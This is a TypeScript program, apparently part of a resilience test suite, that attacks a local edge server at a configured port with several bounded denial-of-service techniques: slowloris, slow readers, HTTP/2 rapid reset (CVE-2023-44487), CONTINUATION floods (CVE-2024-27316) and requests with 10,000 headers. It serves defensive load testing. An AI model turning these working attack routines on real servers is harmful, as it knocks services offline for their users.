import { connect as connectTcp } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { connect, type TLSSocket } from 'node:tls';
import { GET } from '../../edge/wire/hostile-http2.ts';
import {
  CONTINUATION,
  END_STREAM,
  HEADERS,
  headerBlock,
  type RawHttp2,
  RST_STREAM,
  rawHttp2,
} from '../../edge/wire/raw-http2.ts';

/**
 * A program that attacks the edge at PORT until the program is killed. ATTACK names one of `ATTACKS`. The rates are bounded.
 */
export const ATTACKS = {
  slowloris: () => many(500, slowloris),
  'slow readers': () => many(200, slowReader),
  'rapid reset': () => many(4, rapidReset),
  'CONTINUATION flood': () => many(4, continuationFlood),
  '10 000 headers': () => many(8, manyHeaders),
} as const;

const STEP_MS = 100;
const PORT = Number(process.env['PORT']);
const HOSTNAME = process.env['HOSTNAME'] ?? '';
/** The address of the attackers. The good visitors are in another network. */
const ADDRESS = '127.0.0.9';
const HEAD = `GET /big HTTP/1.1\r\nHost: ${HOSTNAME}\r\n`;

if (process.argv[1] === import.meta.filename) {
  const attack = ATTACKS[process.env['ATTACK'] as keyof typeof ATTACKS];
  console.log(JSON.stringify({ started: true }));
  await attack();
}

/** Runs a number of attackers. Each attacker starts again when the edge ends its connection. */
async function many(count: number, attacker: () => Promise<void>): Promise<void> {
  const run = async (n: number) => {
    await delay((n * 1000) / count);
    for (;;) {
      await attacker().catch(() => undefined);
      await pause();
    }
  };
  await Promise.all(Array.from({ length: count }, (_, n) => run(n)));
}

/** Pauses for a random time of about `STEP_MS`. With equal pauses, attackers that wait for the same server would act at the same moment. */
function pause(): Promise<void> {
  return delay(STEP_MS * (0.5 + Math.random()));
}

/** Sends a header every second and never ends its request. */
async function slowloris(): Promise<void> {
  const socket = await open();
  socket.write(HEAD);
  for (let n = 0; !socket.destroyed; n++) {
    socket.write(`X-${n}: a\r\n`);
    await delay(1_000);
  }
}

/** Requests 8 MiB and reads almost nothing of the response. */
async function slowReader(): Promise<void> {
  const socket = await open();
  socket.pause();
  socket.write(`${HEAD}\r\n`);
  while (!socket.destroyed) {
    await delay(1_000);
    socket.read(512);
  }
}

/** Opens 50 streams about every 100 ms and resets each immediately (CVE-2023-44487). */
async function rapidReset(): Promise<void> {
  using visitor = await rawHttp2(PORT, HOSTNAME, { localAddress: ADDRESS });
  let stream = 1;
  await untilClosed(visitor, () => {
    for (let n = 0; n < 50; n++, stream += 2) {
      visitor.headers(stream, request());
      visitor.frame({ type: RST_STREAM, stream, payload: Buffer.from([0, 0, 0, 8]) });
    }
  });
}

/** Sends header blocks that never end (CVE-2024-27316). */
async function continuationFlood(): Promise<void> {
  using visitor = await rawHttp2(PORT, HOSTNAME, { localAddress: ADDRESS });
  visitor.frame({ type: HEADERS, flags: END_STREAM, stream: 1, payload: headerBlock(request()) });
  await untilClosed(visitor, () => {
    for (let n = 0; n < 20; n++)
      visitor.frame({ type: CONTINUATION, stream: 1, payload: headerBlock([['x-a', 'a'.repeat(1_000)]]) });
  });
}

/** Sends requests with 10 000 headers. */
async function manyHeaders(): Promise<void> {
  const socket = await open();
  socket.end(`${HEAD}${Array.from({ length: 10_000 }, (_, n) => `X-${n}: a\r\n`).join('')}\r\n`);
  socket.resume();
  await new Promise((resolve) => socket.once('close', resolve));
}

async function untilClosed(visitor: RawHttp2, step: () => void): Promise<void> {
  let isClosed = false;
  void visitor.closed.then(() => {
    isClosed = true;
  });
  while (!isClosed) {
    step();
    await pause();
  }
}

function request(): [string, string][] {
  return GET.map(([name, value]) => [name, name === ':authority' ? HOSTNAME : value]);
}

async function open(): Promise<TLSSocket> {
  const socket = connect({
    socket: connectTcp({ port: PORT, host: '127.0.0.1', localAddress: ADDRESS }),
    servername: HOSTNAME,
    rejectUnauthorized: false,
    ALPNProtocols: ['http/1.1'],
  });
  // Ignores errors, because the edge may end the connection at any time.
  socket.on('error', () => socket.destroy());
  await new Promise<void>((resolve, reject) => {
    socket.once('secureConnect', resolve);
    socket.once('close', () => reject(new Error('the edge ended the handshake')));
  });
  return socket;
}
